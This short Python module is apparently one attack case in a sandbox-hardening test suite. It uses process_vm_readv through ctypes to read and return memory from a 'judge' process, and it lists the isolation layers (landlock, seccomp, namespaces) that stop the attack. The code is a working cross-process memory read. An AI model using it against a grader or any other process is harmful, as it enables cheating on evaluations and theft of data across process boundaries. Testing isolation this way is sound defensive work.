"""Read the judge's memory with process_vm_readv."""

import ctypes

LIBC = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


STOPPED_BY = ("landlock", "seccomp", "namespaces")
HINDERED_BY = ("privileges",)
NEEDS = "tracing"


def attack(target):
    buffer = ctypes.create_string_buffer(target["length"])
    here = Vector(ctypes.addressof(buffer), target["length"])
    there = Vector(target["address"], target["length"])
    LIBC.process_vm_readv(target["judge"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return buffer.raw.decode()
